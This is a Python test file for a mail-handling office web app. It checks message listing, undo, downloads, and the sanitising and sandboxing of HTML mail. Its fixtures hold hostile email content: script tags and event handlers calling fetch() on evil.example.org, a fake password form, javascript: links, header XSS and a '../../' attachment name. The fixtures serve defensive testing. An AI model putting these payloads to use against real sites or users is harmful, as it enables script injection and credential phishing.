"""All mail and one message: what it says, what became of it, what can be done, and that nothing of it runs."""

import re
from dataclasses import replace

import pytest
from sqlalchemy import select, update

from operations.attaching import attach
from operations.changes import Attribution
from storage.models import ApplicationMessageRow, EventRow, MessageRow, MessageState
from tests.mail import texts
from tests.mail.messages import message as mail
from tests.mail.sample_mailbox import apply, at, three
from tests.web.desk import Desk, office_in
from worker.jobs import one_pass

EVIL = "http://evil.example.org"
HOSTILE_HTML = f"""<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/r">
<style>@import url({EVIL}/i.css); body {{ background: url({EVIL}/b.png) }}</style><link rel="stylesheet" href="{EVIL}/l.css"></head>
<body onload="fetch('{EVIL}/o')" background="{EVIL}/bg.png"><p>Dear office,</p>
<script>fetch("{EVIL}/s"); top.location = "{EVIL}/t"</script>
<img src="{EVIL}/pixel.png"><img src="x" onerror="fetch('{EVIL}/e')"><img srcset="{EVIL}/set.png 2x">
<svg onload="fetch('{EVIL}/v')"><image href="{EVIL}/svg.png"/><script>fetch("{EVIL}/w")</script></svg>
<form action="{EVIL}/f"><input name="password"><button>Sign in</button></form>
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><video src="{EVIL}/video" autoplay></video>
<p style="background-image: url({EVIL}/style.png); position: fixed">Words.</p>
<a href="javascript:fetch('{EVIL}/j')">one</a> <a href="data:text/html,<script>1</script>">two</a> <a href="https://university.example.org">three</a>
</body></html>"""
TAG = "<script>fetch('http://evil.example.org/tag')</script><img src=x onerror=alert(1)>"
HOSTILE_NAME = '"><script>fetch("http://evil.example.org/n")</script>'


def hostile(subject: str = f"<script>fetch('{EVIL}/subject')</script> {HOSTILE_NAME}") -> bytes:
    from email.message import EmailMessage

    made = EmailMessage()
    made["From"] = '"<img src=x onerror=alert(1)>" <evil@example.org>'
    made["To"] = "internships@office.example.org"
    made["Subject"] = subject
    made["Message-ID"] = "<hostile@example.org>"
    made.set_content(f"<script>fetch('{EVIL}/text')</script> Dear office")
    made.add_alternative(HOSTILE_HTML, subtype="html")
    made.add_attachment(
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{EVIL}/a")</script></svg>'.encode(),
        maintype="image",
        subtype="svg+xml",
        filename=f"{HOSTILE_NAME}.svg",
    )
    made.add_attachment(HOSTILE_HTML.encode(), maintype="text", subtype="html", filename="../../cv.html")
    return bytes(made)


@pytest.fixture(scope="session")
def hostile_folder(tmp_path_factory):
    """An office that holds a hostile mail, a hostile application, and a friendly question."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "mailbox").mkdir()
    (folder / "mailbox" / "1.eml").write_bytes(hostile())
    applied = replace(texts.ADA, name=f"Eve {TAG} Evil", email="eve@example.org")
    papers = [(f"{HOSTILE_NAME}-{name}", content) for name, content in three(texts.ADA)]
    raw = apply(applied, f"ICRtoP Internship – Summer 2026 {TAG}", papers, at(4), f"Dear office {TAG}")
    (folder / "mailbox" / "3.eml").write_bytes(raw)
    (folder / "mailbox" / "2.eml").write_bytes(mail("Question", "Ann <ann@example.org>", "When is the deadline?"))
    with office_in(folder, now=at(20)) as office:
        one_pass(office)
    return folder


@pytest.fixture
def hostile_office(hostile_folder, tmp_path):
    import shutil

    shutil.copytree(hostile_folder, tmp_path / "hostile")
    with office_in(tmp_path / "hostile", now=at(20)) as office:
        yield office


def number_of(office, subject: str) -> int:
    with office.database.read() as session:
        return session.scalars(select(MessageRow.id).where(MessageRow.subject.contains(subject))).first()


def numbers(page: str) -> list[int]:
    return [int(each) for each in re.findall(r'<a href="/messages/(\d+)">', page)]


def test_all_mail_is_listed_by_state_reason_way_and_words(desk):
    assert len(numbers(desk.get("/messages").text)) == 49
    assert "state=set_aside" in desk.get("/messages").text
    aside = desk.get("/messages?state=set_aside").text
    assert len(numbers(aside)) == 8
    assert "It names no opening and brings no documents." in aside
    assert len(numbers(desk.get("/messages?reason=newsletter").text)) == 1
    assert len(numbers(desk.get("/messages?q=lindqvist").text)) >= 1
    assert numbers(desk.get("/messages?channel=post").text) == []
    assert "No message is like this" in desk.get("/messages?q=nobody-of-this-name").text
    assert len(numbers(desk.get("/messages?state=nonsense&reason=x&after=x&before=99999999999").text)) == 49


def test_the_pages_of_the_list_join_without_a_gap_in_both_directions(desk, monkeypatch):
    monkeypatch.setattr("storage.message_pages.ON_A_PAGE", 10)
    path, seen, last = "/messages", [], ""
    while path:
        page = desk.get(path).text
        seen += numbers(page)
        last, found = path, re.search(r'rel="next" href="([^"]+)"', page)
        path = found[1].replace("&amp;", "&") if found else None
    assert len(seen) == len(set(seen)) == 49
    back, path = [], last
    while path:
        page = desk.get(path).text
        back = numbers(page) + back
        found = re.search(r'rel="prev" href="([^"]+)"', page)
        path = found[1].replace("&amp;", "&") if found else None
    assert back[-49:] == seen or set(back) == set(seen)


@pytest.mark.parametrize("path", ["/messages", "/messages/4", "/messages/37", "/messages/44/attach?name=ada"])
def test_a_page_needs_few_statements_and_bytes(desk, path):
    desk.get(path)
    with desk.counted() as statements:
        answer = desk.get(path)
    assert answer.status_code == 200
    assert len(answer.content) < 150_000
    assert len(statements) <= 12, statements.texts


def test_the_words_of_the_writer_come_first_and_what_became_of_it_is_said(desk):
    page = desk.get("/messages/37").text
    assert "Could you tell me when you will decide?" in page
    assert 'href="/applications/35"' in page
    assert 'href="/messages/37/answer"' in page
    assert "was not checked by a server whose word counts" in page


ACTS = {
    "seen": ("/messages/44/seen", "Seen."),
    "application": ("/messages/44/application", "It is an application."),
    "answered": ("/messages/37/answered", "Marked as answered."),
    "not an application": ("/messages/4/not-application", "Not an application."),
    "genuine": ("/messages/4/genuine", "The sender is genuine."),
    "forged": ("/messages/4/forged", "The sender is forged"),
    "read again": ("/messages/4/retry", "It is read again now"),
    "a note": ("/messages/4/notes", "Noted."),
    "attached": ("/messages/44/attach", "It belongs to a4."),
}


@pytest.mark.parametrize(("path", "said"), ACTS.values(), ids=ACTS)
def test_an_act_is_done_said_and_taken_back(desk, path, said):
    page = desk.act(path, text="A word to colleagues", to="a4")
    assert said in page
    undo = dict(
        re.findall(r'name="(act|of|next)" value="([^"]*)"', page.split('action="/undo"')[1].split("</form>")[0])
    )
    assert "Taken back." in desk.act("/undo", **undo)


def test_a_message_that_was_attached_belongs_there_however_often_it_is_read_and_leaves_by_undo(desk):
    from domain.numbers import Numbered, TypedNumber
    from operations.undo import undo_last

    office, by = desk.office, Attribution("Rosa", "", desk.office.now())

    def filed() -> list[int]:
        with office.database.read() as session:
            chosen = select(ApplicationMessageRow.application_id).where(ApplicationMessageRow.message_id == 44)
            return list(session.scalars(chosen))

    with office.database.begin() as session:
        attach(session, 44, 4, by)
    for _ in range(2):
        one_pass(office)
        assert filed() == [4]
        desk.act("/messages/44/retry")
    one_pass(office)
    with office.database.begin() as session:
        undo_last(session, office.filing_context, TypedNumber(44, Numbered.MESSAGE), by)  # the retry
        undo_last(session, office.filing_context, TypedNumber(44, Numbered.MESSAGE), by)  # which holds again
    desk.act("/messages/44/not-application")
    one_pass(office)
    assert filed() == []


def test_the_undo_of_an_attachment_takes_the_message_out_again(desk):
    from domain.numbers import Numbered, TypedNumber
    from operations.undo import undo_last

    office, by = desk.office, Attribution("Rosa", "", desk.office.now())
    with office.database.begin() as session:
        attach(session, 44, 4, by)
    one_pass(office)
    with office.database.begin() as session:
        undo_last(session, office.filing_context, TypedNumber(44, Numbered.MESSAGE), by)
    one_pass(office)
    with office.database.read() as session:
        row = session.get_one(MessageRow, 44)
        assert (row.state, row.reason, list(row.applications)) == (MessageState.SET_ASIDE, "not_an_application", [])


def test_an_application_is_looked_for_by_name_and_what_is_not_found_is_said(desk):
    assert "Ada Lindqvist" in desk.get("/messages/44/attach?name=ada").text
    answer = desk.get("/messages/44/attach?name=nobody-of-this-name")
    assert answer.status_code == 200
    assert 'value="nobody-of-this-name"' in answer.text
    assert "No application has" in answer.text
    assert desk.post("/messages/44/attach", data={"to": "x"}).status_code == 422
    assert desk.post("/messages/44/attach", data={"to": "99999"}).status_code == 409


def test_what_an_act_will_do_is_shown_before_and_nothing_is_changed(desk):
    before = desk.get("/messages/44").text
    page = desk.get("/messages/44/preview?act=application").text
    assert "A new application of Old Friend" in page
    assert "Nobody." in page
    assert desk.get("/messages/44/preview?act=nonsense").status_code == 404
    assert before == desk.get("/messages/44").text


def test_the_whole_mail_and_its_files_are_downloads_that_leave_their_event(desk):
    answer = desk.get("/messages/4/raw")
    assert answer.headers["content-type"] == "message/rfc822"
    assert answer.headers["content-disposition"].startswith('attachment; filename="m4.eml"')
    path = re.search(r'href="(/messages/4/files/\d+)"', desk.get("/messages/4").text)[1]
    file = desk.get(path)
    assert file.headers["content-disposition"].startswith("attachment")
    assert file.headers["content-security-policy"] == "default-src 'none'; sandbox"
    with desk.office.database.read() as session:
        chosen = select(EventRow.who).where(EventRow.message_id == 4, EventRow.what == "original read")
        assert list(session.scalars(chosen)) == ["Rosa Example"] * 2


def test_an_infected_mail_is_never_handed_on(desk):
    path = re.search(r'href="(/messages/4/files/\d+)"', desk.get("/messages/4").text)[1]
    with desk.office.database.begin() as session:
        session.execute(
            update(MessageRow).where(MessageRow.id == 4).values(state=MessageState.SET_ASIDE, reason="infected")
        )
    page = desk.get("/messages/4").text
    assert "/raw" not in page
    for each in ("/messages/4/raw", "/messages/4/html", path):
        answer = desk.get(each)
        assert answer.status_code == 409
        assert "never handed on" in answer.text


def test_what_is_not_there_is_not_found(desk):
    for path in ("/messages/999", "/messages/999/raw", "/messages/999/html", "/messages/4/files/99999"):
        assert desk.get(path).status_code == 404
    # A file of another message is none of this one.
    path = re.search(r"/messages/5(/files/\d+)", desk.get("/messages/5").text)[1]
    assert desk.get(f"/messages/4{path}").status_code == 404


def test_html_mail_is_sanitised_and_sandboxed(hostile_office):
    desk = Desk(hostile_office)
    number = number_of(hostile_office, "evil.example.org/subject")
    page = desk.get(f"/messages/{number}").text
    assert "<script>fetch" not in page
    assert "<img src=x" not in page
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    answer = desk.get(f"/messages/{number}/html")
    policy = answer.headers["content-security-policy"]
    for part in ("sandbox allow-popups allow-popups-to-escape-sandbox", "default-src 'none'", "img-src data:",
                 "style-src 'unsafe-inline'", "frame-ancestors 'self'"):  # fmt: skip
        assert part in policy
    assert "allow-scripts" not in policy + page
    assert "evil.example.org" not in answer.text
    assert not re.search(
        r"<(script|form|input|iframe|object|svg|base|link|video)|javascript:|onload|onerror|@import", answer.text
    )
    assert 'href="https://university.example.org"' in answer.text
    assert "pictures of other servers were not loaded" in answer.text


def test_hostile_files_leave_as_bytes_under_a_harmless_name(hostile_office):
    desk = Desk(hostile_office)
    number = number_of(hostile_office, "evil.example.org/subject")
    paths = set(re.findall(rf'href="(/messages/{number}/files/\d+)"', desk.get(f"/messages/{number}").text))
    for path in paths:
        answer = desk.get(path)
        assert answer.headers["content-type"] in ("application/octet-stream", "text/plain; charset=utf-8")
        assert answer.headers["content-disposition"].startswith("attachment")
        assert "/" not in answer.headers["content-disposition"].split("filename*")[0]
